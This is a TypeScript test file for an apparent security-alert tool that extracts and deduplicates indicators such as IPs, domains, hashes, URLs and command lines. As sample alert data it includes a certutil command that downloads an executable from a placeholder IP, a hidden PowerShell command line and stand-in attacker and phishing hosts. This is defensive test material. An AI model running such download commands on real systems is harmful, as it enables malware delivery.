import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseAlert, type AlertInput } from '../../src/domain/alert';
import { extractObservables, isIpv4, searchableObservables, urlHost, type ObservableSet } from '../../src/domain/observables';

const base = { source: 'test', sourceId: 'o-1', time: '2026-11-20T09:00:00Z', title: 'test alert', severity: 'medium' } as const;
const extract = (patch: Partial<AlertInput>) => extractObservables(parseAlert({ ...base, ...patch }));
const sample = (file: string) => parseAlert(JSON.parse(readFileSync(join(__dirname, '..', '..', 'samples', 'alerts', file), 'utf8')));

const EMPTY: ObservableSet = { hosts: [], users: [], hashes: [], domains: [], ips: [], urls: [], emails: [], commandLines: [] };

describe('urlHost', () => {
  it.each([
    ['https://Example.COM/path?q=1', 'example.com'],
    ['http://user:pw@evil.example.net:8080/x', 'evil.example.net'],
    ['http://198.51.100.23/owa/login.php', '198.51.100.23'],
    ['https://trailing.example.org./', 'trailing.example.org'],
    ['ftp://files.example.com', 'files.example.com'],
    ['https://host.example#frag', 'host.example'],
    ['http://[2001:db8::1]:8080/', '[2001:db8::1]'],
  ])('%s → %s', (url, host) => {
    expect(urlHost(url)).toBe(host);
  });

  it.each(['not a url', '/relative/path', 'mailto:a@example.com', ''])('has no host for %j', (url) => {
    expect(urlHost(url)).toBeUndefined();
  });
});

describe('isIpv4', () => {
  it.each(['0.0.0.0', '10.0.0.5', '255.255.255.255', '198.51.100.23'])('accepts %s', (ip) => expect(isIpv4(ip)).toBe(true));
  it.each(['256.1.1.1', '1.2.3', '1.2.3.4.5', 'a.b.c.d', ' 1.2.3.4', '1.2.3.4/24', '2001:db8::1', 'example.com'])('rejects %j', (ip) =>
    expect(isIpv4(ip)).toBe(false),
  );
});

describe('extractObservables', () => {
  it('finds nothing in an alert without indicators', () => {
    expect(extract({})).toEqual(EMPTY);
  });

  it('flattens structured fields from a sample alert', () => {
    const o = extractObservables(sample('01-encoded-powershell.json'));
    expect(o.hosts).toEqual(['fin-ws-042']);
    expect(o.users).toEqual(['corp\\j.doe']);
    expect(o.ips).toEqual(['10.20.4.42', '203.0.113.77']);
    expect(o.commandLines).toHaveLength(1);
    expect(o.commandLines[0]).toMatch(/^powershell\.exe -NoP -W Hidden/);
  });

  it('takes hosts, users, processes with their parents, files, network and emails', () => {
    const sha256 = 'AB'.repeat(32);
    const md5 = 'cd'.repeat(16);
    const sha1 = 'ef'.repeat(20);
    const o = extract({
      observables: {
        hosts: [{ hostname: 'WS-01', ip: '10.1.1.1' }],
        users: [{ name: 'Alice', domain: 'CORP' }, { name: 'bob' }],
        processes: [
          {
            name: 'cmd.exe',
            commandLine: 'cmd /c echo hi',
            user: 'CORP\\svc',
            hashes: { sha256 },
            parents: [{ name: 'explorer.exe', commandLine: 'explorer.exe', hashes: { md5 } }],
          },
        ],
        files: [{ name: 'x.bin', hashes: { sha1 } }],
        network: [{ srcIp: '10.1.1.1', dstIp: '198.51.100.9' }],
        emails: [{ from: 'Sender@Example.com', to: ['One@Example.com', 'two@example.com'] }],
      },
    });
    expect(o.hosts).toEqual(['ws-01']);
    expect(o.users).toEqual(['corp\\alice', 'bob', 'corp\\svc']);
    expect(o.hashes).toEqual([sha256.toLowerCase(), md5, sha1]);
    expect(o.ips).toEqual(['10.1.1.1', '198.51.100.9']);
    expect(o.commandLines).toEqual(['cmd /c echo hi', 'explorer.exe']);
    expect(o.emails).toEqual(['sender@example.com', 'one@example.com', 'two@example.com']);
  });

  it('derives a domain from a URL host, or an IP when the host is an address', () => {
    const o = extract({ observables: { urls: ['https://Login.Example-Bank.com/a', 'http://198.51.100.23/owa/login.php'] } });
    expect(o.urls).toEqual(['https://Login.Example-Bank.com/a', 'http://198.51.100.23/owa/login.php']);
    expect(o.domains).toEqual(['login.example-bank.com']);
    expect(o.ips).toEqual(['198.51.100.23']);
  });

  it('lowercases domains and drops a trailing dot', () => {
    expect(extract({ observables: { domains: ['Evil.Example.COM.', 'evil.example.com'] } }).domains).toEqual(['evil.example.com']);
  });

  it('keeps URL and command-line case (paths and arguments are case-sensitive)', () => {
    const o = extract({
      observables: {
        urls: ['https://example.com/Payload.EXE', 'https://example.com/payload.exe'],
        processes: [{ commandLine: 'sh -c ./Run.sh' }, { commandLine: 'sh -c ./run.sh' }],
      },
    });
    expect(o.urls).toEqual(['https://example.com/Payload.EXE', 'https://example.com/payload.exe']);
    expect(o.commandLines).toEqual(['sh -c ./Run.sh', 'sh -c ./run.sh']);
  });

  it('deduplicates across structured fields and free text', () => {
    const o = extract({
      title: 'Beacon to 203.0.113.5 from WS-9',
      description: 'Also seen: http://203.0.113.5/x and HTTP://evil.example.net/a',
      observables: {
        hosts: [{ hostname: 'ws-9', ip: '203.0.113.5' }, { hostname: 'WS-9' }],
        network: [{ dstIp: '203.0.113.5' }],
        ips: ['203.0.113.5'],
        domains: ['EVIL.example.net'],
        users: [{ name: 'Bob' }, { name: 'bob' }],
      },
    });
    expect(o.hosts).toEqual(['ws-9']);
    expect(o.ips).toEqual(['203.0.113.5']);
    expect(o.domains).toEqual(['evil.example.net']);
    expect(o.users).toEqual(['bob']);
    expect(o.urls).toEqual(['http://203.0.113.5/x', 'HTTP://evil.example.net/a']);
  });

  it('finds indicators mentioned only in the title, description and command lines', () => {
    const sha256 = '0123456789abcdef'.repeat(4);
    const o = extract({
      title: 'Download from https://cdn.example.org/a.ps1, then contact 192.0.2.44',
      description: `File hash ${sha256.toUpperCase()}; phish from Attacker@Example.net.`,
      observables: {
        processes: [{ commandLine: 'certutil -urlcache -f http://198.51.100.7:8080/p.exe p.exe' }],
      },
    });
    // Trailing punctuation from prose is not part of the URL.
    expect(o.urls).toEqual(['https://cdn.example.org/a.ps1', 'http://198.51.100.7:8080/p.exe']);
    expect(o.domains).toEqual(['cdn.example.org']);
    expect(o.ips).toEqual(expect.arrayContaining(['192.0.2.44', '198.51.100.7']));
    expect(o.ips).toHaveLength(2);
    expect(o.hashes).toEqual([sha256]);
    expect(o.emails).toEqual(['attacker@example.net']);
  });

  it('does not take out-of-range dotted numbers for IPs', () => {
    expect(extract({ title: 'version 999.1.2.3 and build 10.0.300.1' }).ips).toEqual([]);
  });

  it('pulls the phishing sample apart', () => {
    const o = extractObservables(sample('03-phishing-link.json'));
    expect(o.ips).toEqual(['198.51.100.23']);
    expect(o.domains).toEqual(['mailbox-quota-check.top']);
    expect(o.emails).toEqual(['it-support@mailbox-quota-check.top', 'a.lee@example.com']);
    expect(o.users).toEqual(['a.lee']);
  });
});

describe('searchableObservables', () => {
  const set: ObservableSet = {
    hosts: ['h1'],
    users: ['u1'],
    hashes: ['a'.repeat(64)],
    domains: ['d.example'],
    ips: ['192.0.2.1'],
    urls: ['https://not-searchable.example/'],
    emails: ['e@example.com'],
    commandLines: ['not searchable'],
  };

  it('lists entities an operator searches by, without URLs or command lines', () => {
    expect(searchableObservables(set)).toEqual(['h1', 'u1', 'a'.repeat(64), 'd.example', '192.0.2.1', 'e@example.com']);
  });

  it('drops values longer than a keyword allows and caps the count', () => {
    const long = { ...EMPTY, hosts: ['x'.repeat(256), 'ok'], users: Array.from({ length: 100 }, (_, i) => `u${i}`) };
    const values = searchableObservables(long, 10);
    expect(values).toHaveLength(10);
    expect(values[0]).toBe('ok');
    expect(values.every((v) => v.length <= 255)).toBe(true);
    expect(searchableObservables(long)).toHaveLength(64);
  });
});
